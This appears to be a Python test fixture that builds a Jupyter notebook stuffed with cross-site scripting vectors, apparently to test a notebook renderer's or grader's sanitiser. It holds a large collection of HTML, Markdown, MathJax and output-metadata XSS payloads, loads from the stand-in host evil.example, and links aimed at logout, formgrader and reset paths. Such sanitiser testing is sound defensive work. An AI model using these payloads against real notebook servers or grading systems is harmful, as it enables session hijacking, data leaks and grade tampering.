"""A notebook stuffed with every way we know to run or load something in the reader's browser.

Each vector calls `ran()`, which a test defines, or loads from `evil.example`. `signed` writes the
place of its cell into both, so that a test can name what ran.
"""

from __future__ import annotations

import base64
import re
from typing import Any

EVIL = "https://evil.example/"
SCRIPTED = '<svg xmlns="http://www.w3.org/2000/svg" onload="ran()"><script>ran()</script></svg>'
SCRIPTED_URL = "data:image/svg+xml;base64," + base64.b64encode(SCRIPTED.encode()).decode()
PAGE = base64.b64encode(b"<script>parent.ran()</script>").decode()
NESTED_DIVS = "<div>" * 300 + "</div>" * 10

HTML = [
    "<script>ran()</script>",
    f"<script src='{EVIL}s.js'></script>",
    "<img src=x onerror=ran()>",
    "<IMG SRC=x OnErRoR = 'ran()'>",
    "<img src=`x` onerror=ran()//",
    f"<img src='{EVIL}i.png'>",
    f"<img srcset='{EVIL}i.png 1x'>",
    f"<picture><source srcset='{EVIL}p.png'><img src=x></picture>",
    f"<video poster='{EVIL}v.png' autoplay><source src=x onerror=ran()></video>",
    "<audio src=x onerror=ran()></audio>",
    "<svg onload=ran()><circle r=4 /></svg>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:ran()'><text x=9 y=9>click</text></a></svg>",
    f"<svg><image href='{EVIL}svg.png' /><use href='{EVIL}x.svg#y' /></svg>",
    "<svg><style><img src=x onerror=ran()></style></svg>",
    f"<img src='{SCRIPTED_URL}'>",
    f"<iframe src='{SCRIPTED_URL}'></iframe>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    f"<iframe src='data:text/html;base64,{PAGE}'></iframe>",
    "<iframe src='javascript:parent.ran()'></iframe>",
    f"<object data='{EVIL}o.html'></object><embed src='{EVIL}e.swf'>",
    f"<object data='data:text/html;base64,{PAGE}'></object>",
    f"<meta http-equiv=refresh content='0; url={EVIL}refresh'>",
    f"<base href='{EVIL}'>",
    f"<link rel=stylesheet href='{EVIL}l.css'><link rel=prefetch href='{EVIL}prefetch'>",
    f"<style>@import url({EVIL}import.css); body {{background: url({EVIL}bg.png)}}</style>",
    f"<p style='background: url({EVIL}style.png)'>styled</p>",
    f"<p style='background-color: u\\72l({EVIL}style2.png)'>styled</p>",
    f"<form action='{EVIL}form'><input name=q><button class=full-credit>go</button></form>",
    "<form><button formaction='javascript:ran()'>go</button></form>",
    "<input autofocus onfocus=ran()>",
    "<details open ontoggle=ran()><summary>more</summary></details>",
    "<body onload=ran() onpageshow=ran()>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=ran()&gt;'>",
    "<math href='javascript:ran()'>click</math>",
    '<noscript><p title="</noscript><img src=x onerror=ran()>"></noscript>',
    "<template><img src=x onerror=ran()></template><div><template shadowrootmode=open>"
    "<img src=x onerror=ran()></template></div>",
    "<xmp><p title='</xmp><img src=x onerror=ran()>'></xmp>",
    "<textarea><img title='</textarea><img src=x onerror=ran()>'></textarea>",
    "<title><img title='</title><img src=x onerror=ran()>'></title>",
    "<select><template><style></select><img src=x onerror=ran()></style></template></select>",
    "<!--><img src=x onerror=ran()>-->",
    "<!-- --!><img src=x onerror=ran()>",
    "<![CDATA[<img src=x onerror=ran()>]]>",
    "<?xml <img src=x onerror=ran()> ?>",
    "<a href='javascript:ran()' id=click>click</a>",
    "<a href=' java\tscript:ran()'>click</a>",
    "<a href='&#106;avascript&colon;ran()'>click</a>",
    "<a href='files/javascript:ran()'>click</a>",
    "<a href='vbscript:ran()'>click</a>",
    f"<a href='data:text/html;base64,{PAGE}'>click</a>",
    f"<a ping='{EVIL}ping' href='#x'>click</a>",
    "<div class='mark-graded full-credit' data-toggle=tooltip title='<img src=x onerror=ran()>'>"
    "a</div>",
    "<p title='<svg onload=ran()></svg>'>a</p>",
    '<svg><title>"><img src=x onerror=ran()></title></svg>',
    "<table background='https://evil.example/table.png'><tr><td>a</table>",
    "</div></div></div></div></body></html><script>ran()</script>",
    NESTED_DIVS + "<img src=x onerror=ran()>",
    "<a href='java&#10;script:ran()'>click</a>",
    "<a href='\x01javascript:ran()'>click</a>",
    "<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>",
    "<svg><a><set attributeName=href to=javascript:ran() /><text y=9>click</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:ran() /><text>click</text></a></svg>",
    f"<svg><use href='{SCRIPTED_URL}#x' /></svg>",
    "<style>@keyframes x {}</style><p style='animation-name: x' onanimationstart=ran()>a</p>",
    "<p style='width: expression(ran())'>a</p>",
    "<link rel=stylesheet href='data:text/css,@import url(https://evil.example/data.css)'>",
    "<script type=module>ran()</script>",
    "<script type='text/x-mathjax-config'>ran()</script>",
    "<script type='math/tex'>\\href{javascript:ran()}{click}</script>",
    '<script type=\'application/vnd.jupyter.widget-view+json\'>{"model_id": "m"}</script>',
    "<button autofocus onfocus=ran() onclick=ran()>click</button>",
    "<p tabindex=1 autofocus onfocus=ran()>a</p>",
    "<marquee onstart=ran()>a</marquee>",
    "<dialog open><form method=dialog><button autofocus onfocus=ran()>a</button></form></dialog>",
    "<embed src='javascript:parent.ran()'>",
    "<p data-toggle=tooltip data-html=true title='<img src=x onerror=ran()>' id=tip>a</p>",
    "<a data-link='../../../logout'>click</a>",
    "<a data-commandlinker-command='terminal:create-new' href='#'>click</a>",
    "<p>$\\href{javascript:ran()}{\\text{click}}$ and \\(\\href{javascript:ran()}{click}\\)</p>",
    "<p>$&#92;href{javascript:ran()}{click}$ and $\\<!-- -->href{javascript:ran()}{click}$</p>",
    f"<p>$\\style{{background: url({EVIL}math.png)}}{{x}}$</p>",
]

MATH = [
    "\\href{javascript:ran()}{\\text{click}}",
    "\\href{ JaVaScRiPt:ran()}{\\text{click}}",
    "\\href{data:text/html;base64," + PAGE + "}{\\text{click}}",
    "\\let\\x=\\href \\x{javascript:ran()}{\\text{click}}",
    "\\def\\x{\\href} \\x{javascript:ran()}{\\text{click}}",
    "\\class{full-credit}{click}",
    "\\cssId{double}{click}",
    f"\\style{{background: url({EVIL}style-math.png)}}{{x}}",
    '\\unicode{65, x" onmouseover="ran()}',
    "\\require{action} \\require{https://evil.example/require}",
    '\\mmlToken{mi}[href="javascript:ran()"]{click}',
    "\\texttip{x}{<img src=x onerror=ran()>}",
    "\\text{<img src=x onerror=ran()>}",
]

MARKDOWN = [
    *HTML,
    "[click](javascript:ran())",
    "[click](JaVaScRiPt:ran())",
    "[click](java&#9;script:ran())",
    "[click](javascript&colon;ran())",
    "[click](&#x6A;avascript:ran())",
    "[click](<java\tscript:ran()>)",
    "[click](<\x01javascript:ran()>)",
    "[click](files/javascript:ran())",
    "[click](/files/javascript:ran())",
    f"[click](data:text/html;base64,{PAGE})",
    '[click](x "title\\" onmouseover=ran() x=")',
    "[click][r]\n\n[r]: javascript:ran()",
    "<javascript:ran()>",
    "<vbscript:ran()>",
    f"![x]({EVIL}markdown.png)",
    f"![x][e]\n\n[e]: {EVIL}reference.png",
    "![x](attachment:page.html)",
    "![x](attachment:missing.png)",
    '![x" onerror="ran()](y.png)',
    "```mermaid\n<img src=x onerror=ran()>\n```",
    "``` mermaid\n<script>ran()</script>\n```",
    '```"><img/src=x/onerror=ran()>\nx\n```',
    "`code` <b onclick=ran()>b</b> `more`",
    "` <img src=x onerror=ran()>",
    "``a` <img src=x onerror=ran()> `b``` `",
    "\\`<img src=x onerror=ran()>\\`",
    "$ <img src=x onerror=ran()> 5$ and $6",
    "\\$<img src=x onerror=ran()>$",
    "$$\n\n<img src=x onerror=ran()>\n\n$$",
    "\\begin{a}\n\n<img src=x onerror=ran()>\n\n\\end{a}",
    "```\nopen\n\n    ```\n<img src=x onerror=ran()>\n```",
    "> ```\n> a\n<img src=x onerror=ran()>\n> ```",
    "- ```\n  a\n\n<img src=x onerror=ran()>\n  ```",
    "    <img src=x onerror=ran()>\n\n<p>\n    <img src=x onerror=ran()>\n</p>",
    "| a | `b` |\n|--|--|\n| `x | <img src=x onerror=ran()>` | b |",
    "<a\nhref='javascript:ran()'\n>click</a>",
    "<a title='`' href='javascript:ran()'>click</a>` `",
    "<im\0g src=x onerror=ran()>",
    "# <img src=x onerror=ran()>\n\nsetext <svg onload=ran()>\n===",
    "<<img src=x onerror=ran()>>",
    "< img src=x onerror=ran()><\tscript>ran()</script>",
    "<img/src=x/onerror=ran()>",
    "<img src='a.png'onerror=ran()>",
    "<img src=../../logout>",
    "> " * 400 + "deep",
    *(f"a ${formula}$ b" for formula in MATH),
    *(f"\\begin{{align}}{formula}\\end{{align}}" for formula in MATH[:2]),
    "\\\\(\\href{javascript:ran()}{click}\\\\) and \\\\[\\href{javascript:ran()}{click}\\\\]",
    "a &#36;&#92;href{javascript:ran()}{click}&#36; b",
    "a $\\**href**{javascript:ran()}{click}$ and \\$\\\\href{javascript:ran()}{click}\\$ b",
    "![x](data:image/svg+xml;base64," + SCRIPTED_URL.split(",")[1] + ")",
    "![x](data:text/html;base64," + PAGE + ")",
    '![x](attachment:x" onerror="ran().png)',
    "[click](attachment:page.html)",
    "[click]: javascript:ran()\n\n[click]",
    "[click](/formgrader?path=submitted/mallory/functions)",
    "[click](../../../FORMGRADER?path=submitted)",
    "[click](../../manage_students/%3Cimg%20src=x%20onerror=ran()%3E)",
    "[click](http://127.0.0.1:8888/formgr%61der/manage_students/%3Cimg%20src=x%20onerror=ran()%3E)",
    "[click](/logout), [click](../../../logout), [click](//evil.example/x)",
    "[click](\\\\evil.example), [click](https:/lab?reset), [click](https:lab)",
    "[click](?index=1), [click](../next), [click](http:formgrader)",
    "<a href='/lab/workspaces/x?reset'>click</a>",
    "# double\n\nthe box of another question",
    "double comment\n===\n\n## double_extra_credit",
    "[^1] note\n\n[^1]: <img src=x onerror=ran()>",
]

BARE = "<img src=x onerror=ran()>"
QUOTED = '"><img src=x onerror=ran()>'
VEGA = {
    "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
    "data": {"url": EVIL + "vegalite.json"},
    "mark": {"type": "point", "href": "javascript:ran()"},
    "usermeta": {"embedOptions": {"defaultStyle": BARE, "actions": True}},
}
STATE = {"state": {"m": {"model_name": BARE, "state": {"v": "</script>" + BARE}}}}
DATA = [
    *({"text/html": html} for html in HTML),
    *({"text/markdown": text} for text in MARKDOWN),
    {"application/javascript": "ran()"},
    {"image/svg+xml": SCRIPTED},
    {"image/svg+xml": "<svg><script>ran()</script><circle></svg>"},
    {"text/latex": f"$x$ {BARE}"},
    {"text/latex": "$\\href{javascript:ran()}{x}$"},
    *({"text/latex": f"${formula}$"} for formula in MATH),
    *({"text/latex": f"\\begin{{align}}{formula}\\end{{align}}"} for formula in MATH[:2]),
    {"text/plain": BARE},
    {"application/pdf": PAGE},
    {"application/xhtml+xml": BARE, "text/xml": BARE},
    {"application/vnd.vegalite.v5+json": VEGA},
    {"application/vnd.vega.v5+json": {"marks": [], "data": [{"url": EVIL + "vega", "name": "x"}]}},
    {"application/vnd.plotly.v1+json": {"data": [], "layout": {"title": BARE}}},
    {"application/geo+json": {"type": "Point", "properties": {"url": EVIL + "geo"}}},
    {"application/vnd.jupyter.error": {"name": BARE, "message": BARE}},
    {"application/vnd.jupyter.es6-rich-output": "export default () => ran()"},
    {"text/vnd.mermaid": BARE},
    {"application/vnd.jupyter.widget-view+json": {"model_id": "m"}, "text/plain": BARE},
    {"application/vnd.evil+json": {"x": BARE}},
    {"application/json": {"x": BARE}},
    {"image/png": f"AAAA{QUOTED}"},
    {"image/jpeg": QUOTED},
    {BARE: BARE},
]


def notebook() -> dict[str, Any]:
    """The stuffed notebook, as a plain dictionary."""
    return {
        "cells": [signed(cell, place) for place, cell in enumerate(_cells())],
        "metadata": {
            "title": BARE,
            "authors": [{"name": BARE}],
            "kernelspec": {"name": "python3", "display_name": BARE},
            "language_info": {
                "name": QUOTED,
                "pygments_lexer": QUOTED,
                "codemirror_mode": {"name": QUOTED},
            },
            "widgets": {"application/vnd.jupyter.widget-state+json": STATE},
        },
        "nbformat": 4,
        "nbformat_minor": 5,
    }


def _cells() -> list[dict[str, Any]]:
    return [*_markdown(), *_code(), *_odd()]


def signed(value: Any, place: int) -> Any:
    """The value with `ran(place)` for each `ran()`, in its base64 too."""
    if isinstance(value, list):
        return [signed(item, place) for item in value]
    if isinstance(value, dict):
        return {signed(key, place): signed(item, place) for key, item in value.items()}
    if not isinstance(value, str):
        return value
    for hidden in (PAGE, SCRIPTED_URL.split(",")[1]):
        clear = base64.b64decode(hidden).replace(b"ran()", b"ran(%d)" % place)
        value = value.replace(hidden, base64.b64encode(clear).decode())
    return re.sub(r"\bran\(\)", f"ran({place})", value)


def markdown(text: str, place: int) -> dict[str, Any]:
    return {
        "cell_type": "markdown",
        "id": f"m{place}",
        "metadata": {},
        "source": text,
        "attachments": {
            "page.html": {"text/html": PAGE, "image/svg+xml": SCRIPTED},
            'x" onerror="ran().png': {"image/png": QUOTED},
        },
    }


def code(outputs: list[dict[str, Any]], name: str) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "id": name,
        "metadata": {},
        "execution_count": 1,
        "source": f"print('{BARE}')",
        "outputs": outputs,
    }


def _markdown() -> list[dict[str, Any]]:
    return [markdown(text, place) for place, text in enumerate(MARKDOWN)]


def _code() -> list[dict[str, Any]]:
    """One cell per display; the sizes are what nbconvert writes into a tag without quotes."""
    about = {"isolated": True, "width": "1 onerror=ran()", "alt": QUOTED}
    metadata = dict.fromkeys(("text/html", "image/png", "image/jpeg"), about)
    metadata["filenames"] = {"image/png": EVIL + "filename.png"}
    return [
        code([{"output_type": "display_data", "data": data, "metadata": metadata}], f"c{place}")
        for place, data in enumerate(DATA)
    ]


def _odd() -> list[dict[str, Any]]:
    """Text, tracebacks, raw cells, and markup where a name or a number belongs."""
    png = {"image/png": "iVBORw0KGgo=", "text/plain": BARE}
    named = code(
        [
            {"output_type": "stream", "name": "stdout", "text": f"\x1b[31m{BARE}\x1b[0m"},
            {"output_type": "stream", "name": QUOTED, "text": BARE},
            {"output_type": "error", "ename": BARE, "evalue": BARE, "traceback": [BARE, BARE]},
            {"output_type": BARE, "text": BARE},
            {"output_type": "update_display_data", "data": {"text/html": BARE}, "metadata": {}},
            {
                "output_type": "execute_result",
                "execution_count": BARE,
                "data": png,
                "metadata": {"image/png": {"width": "1 onerror=ran()"}},
            },
        ],
        QUOTED,
    )
    named["execution_count"] = BARE
    named["metadata"] = {
        "tags": [QUOTED, "a full-credit mermaid"],
        "alt": QUOTED,
        "magics_language": QUOTED,
        "nbgrader": {"grade_id": QUOTED, "grade": True, "solution": True, "points": BARE},
    }
    raw = {"cell_type": "raw", "id": "raw", "metadata": {"raw_mimetype": "text/html"}}
    unknown = {"cell_type": BARE, "id": "unknown", "metadata": {}}
    return [named, {**raw, "source": BARE}, {**unknown, "source": BARE}]
